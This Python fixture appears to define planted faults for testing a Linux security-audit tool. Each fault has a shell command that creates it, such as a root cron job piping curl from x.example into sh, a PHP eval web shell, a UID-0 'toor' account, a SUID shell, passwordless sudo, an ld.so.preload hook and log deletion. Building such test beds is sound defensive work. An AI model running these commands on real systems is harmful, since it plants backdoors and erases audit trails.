"""What is planted: the check that has to find it, the item it has to name, and how it is made."""

# ruff: noqa: E501 - a line of shell is told whole

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Fault:
    """One planted fault."""

    check: str
    item: str
    made_by: str


_RSA = (
    "ssh-keygen -q -t rsa -b 1024 -N '' -f /srv/short && mkdir -p /home/anna/.ssh && "
    "cat /srv/short.pub >>/home/anna/.ssh/authorized_keys"
)
_REPOSITORY = """mkdir -p /srv/sec; cd /srv/sec
printf 'Package: bash\\nVersion: 99.1\\nArchitecture: amd64\\nMaintainer: x <x@x>\\nFilename: ./b.deb\\nSize: 1\\nSHA256: %064d\\nDescription: x\\n' 0 >Packages
printf 'Origin: x\\nLabel: Debian-Security\\nSuite: stable-security\\nDate: Sat, 28 Nov 2026 00:00:00 UTC\\nSHA256:\\n %s %s Packages\\n' "$(sha256sum <Packages | cut -d' ' -f1)" "$(wc -c <Packages)" >Release
echo 'deb [trusted=yes] file:/srv/sec ./' >/etc/apt/sources.list.d/own.list
apt-get -qq update; cd /"""

FAULTS = (
    Fault("UPD-01", "bash", _REPOSITORY),
    Fault("UPD-03", "patch day", "rm -f /etc/apt/apt.conf.d/20auto"),
    Fault(
        "UPD-04",
        "tzdata",
        "sed -i '/^Package: tzdata$/,/^$/s/install ok installed/install ok half-configured/' /var/lib/dpkg/status",
    ),
    Fault("UPD-07", "file:/srv/sec", ":"),
    Fault("UPD-08", "/etc/apt/sources.list.d/own.list", ":"),
    Fault("UPD-09", "perl-base", "echo 'perl-base hold' | dpkg --set-selections"),
    Fault("UPD-06", "", "sed -i 's/^VERSION_ID=.*/VERSION_ID=\"9\"/' /usr/lib/os-release"),
    Fault("KRN-01", "kernel", ": >/boot/vmlinuz-99.9; touch -d '2020-01-01' /boot/vmlinuz-99.9"),
    Fault("KRN-02", "net.ipv4.tcp_syncookies", "echo 0 >/proc/sys/net/ipv4/tcp_syncookies"),
    Fault(
        "FW-01",
        "tcp/6379",
        "perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(LocalAddr=>\"0.0.0.0\",LocalPort=>6379,Listen=>5,ReuseAddr=>1) or die; sleep 600' </dev/null >/dev/null 2>&1 &",
    ),
    Fault("FW-02", "IPv4", "nft flush ruleset"),
    Fault("FW-03", "", "rm -f /etc/systemd/system/sysinit.target.wants/nftables.service"),
    Fault("FW-06", "net/ipv4/ip_forward", "echo 1 >/proc/sys/net/ipv4/ip_forward"),
    Fault("SVC-05", "/usr/sbin/in.telnetd", "cp /bin/true /usr/sbin/in.telnetd"),
    Fault(
        "SVC-06",
        "telnet",
        "echo 'telnet stream tcp nowait root /usr/sbin/in.telnetd in.telnetd' >/etc/inetd.conf",
    ),
    Fault(
        "USR-01",
        "toor",
        "echo 'toor:x:0:0::/root:/bin/bash' >>/etc/passwd; echo 'toor:!:20000::::::' >>/etc/shadow",
    ),
    Fault("USR-02", "bert", "sed -i 's/^bert:[^:]*:/bert::/' /etc/shadow"),
    Fault("USR-02", "carl", "echo 'carl:old1' | chpasswd -c MD5"),
    Fault("USR-03", "anna", "echo 'anna:anna123' | chpasswd"),
    Fault(
        "USR-03",
        "dora",
        "h=$(grep '^anna:' /etc/shadow | cut -d: -f2); sed -i \"s|^dora:[^:]*:|dora:$h:|\" /etc/shadow",
    ),
    Fault("USR-04", "bert in sudo", "usermod -aG sudo bert"),
    Fault("USR-04", "carl in disk", "usermod -aG disk carl"),
    Fault(
        "USR-07",
        "dora /etc/sudoers.d/own",
        "echo 'dora ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/own; chmod 440 /etc/sudoers.d/own",
    ),
    Fault("USR-08", "number 0", ":"),
    Fault("USR-10", "bert", "chmod 777 /home/bert"),
    Fault("USR-11", "anna", _RSA),
    Fault("USR-12", "/home/anna/.ssh/authorized_keys", "chmod 666 /home/anna/.ssh/authorized_keys"),
    Fault(
        "USR-13",
        "",
        "printf 'PermitRootLogin yes\\nPasswordAuthentication yes\\n' >/etc/ssh/sshd_config.d/00.conf",
    ),
    Fault(
        "USR-13",
        "permitemptypasswords",
        "echo 'PermitEmptyPasswords yes' >>/etc/ssh/sshd_config.d/00.conf",
    ),
    Fault("USR-14", "games", "usermod -s /bin/sh games"),
    Fault("USR-15", "UMASK", "sed -i 's/^UMASK.*/UMASK 000/' /etc/login.defs"),
    Fault("USR-16", "/home/carl/.rhosts", "echo '+ +' >/home/carl/.rhosts"),
    Fault("USR-17", "dora", "sed -i 's/^dora:x:/dora::/' /etc/passwd"),
    Fault("LGG-01", "", "rm -rf /var/log/syslog /var/log/auth.log /var/log/journal"),
    Fault("LGG-02", "", ":"),
    Fault(
        "LGG-03",
        "/etc/logrotate.d/rsyslog",
        "sed -i 's/rotate .*/rotate 1/' /etc/logrotate.d/rsyslog",
    ),
    Fault("LGG-06", "/var/log/mail.log", "echo x >/var/log/mail.log; chmod 666 /var/log/mail.log"),
    Fault("FIL-01", "WWD /etc/open", "mkdir -m 777 /etc/open"),
    Fault("FIL-01", "SUID /opt/rootsh", "cp /bin/dash /opt/rootsh; chmod 4755 /opt/rootsh"),
    Fault("FIL-01", "ORPH /opt/lost", "echo x >/opt/lost; chown 4242 /opt/lost"),
    Fault("FIL-02", "/tmp", "chmod 777 /tmp"),
    Fault("FIL-03", "/etc/shadow", "chmod 644 /etc/shadow"),
    Fault("FIL-05", "/usr/bin/who", "echo >>/usr/bin/who"),
    Fault(
        "FIL-06",
        "/var/www/shop/uploads",
        "mkdir -p /var/www/shop/uploads; chmod 777 /var/www/shop/uploads",
    ),
    Fault("FIL-04", "/tmp/run", "cp /bin/sleep /tmp/run; chown games /tmp/run; chmod 755 /tmp/run"),
    Fault("PRC-01", "run /tmp/run", "/tmp/run 600 </dev/null >/dev/null 2>&1 &"),
    Fault(
        "PRC-02",
        "root xmrig",
        "cp /bin/sleep /opt/xmrig; /opt/xmrig 600 </dev/null >/dev/null 2>&1 &",
    ),
    Fault("PRC-03", "PRELOAD /lib/evil.so", "echo /lib/evil.so >/etc/ld.so.preload"),
    Fault(
        "CRN-02",
        "/etc/cron.d/own:1",
        "echo '* * * * * root curl -s http://x.example/a | sh' >/etc/cron.d/own",
    ),
    Fault("BRK-01", "/tmp/...", "mkdir /tmp/..."),
    Fault(
        "BRK-02",
        "/etc/systemd/system/own.service",
        "printf '[Service]\\nExecStart=/tmp/run\\n' >/etc/systemd/system/own.service",
    ),
    Fault(
        "WEB-01",
        "/var/www/shop/uploads/a.php",
        "echo '<?php eval(base64_decode($_POST[\"x\"])); ?>' >/var/www/shop/uploads/a.php",
    ),
    Fault("WEB-02", "/var/www/shop/uploads/a.php", ":"),
    Fault("WEB-03", "/var/www/shop/.env", "echo 'DB_PASSWORD=x' >/var/www/shop/.env"),
    Fault(
        "WEB-04",
        "/var/www/shop/wp-config.php",
        "echo '<?php' >/var/www/shop/wp-config.php; chmod 666 /var/www/shop/wp-config.php",
    ),
    Fault(
        "HST-04",
        "/var/www/shop",
        "mkdir -p /var/www/shop/wp-includes; echo \"\\$wp_version = '4.9.1';\" >/var/www/shop/wp-includes/version.php",
    ),
)
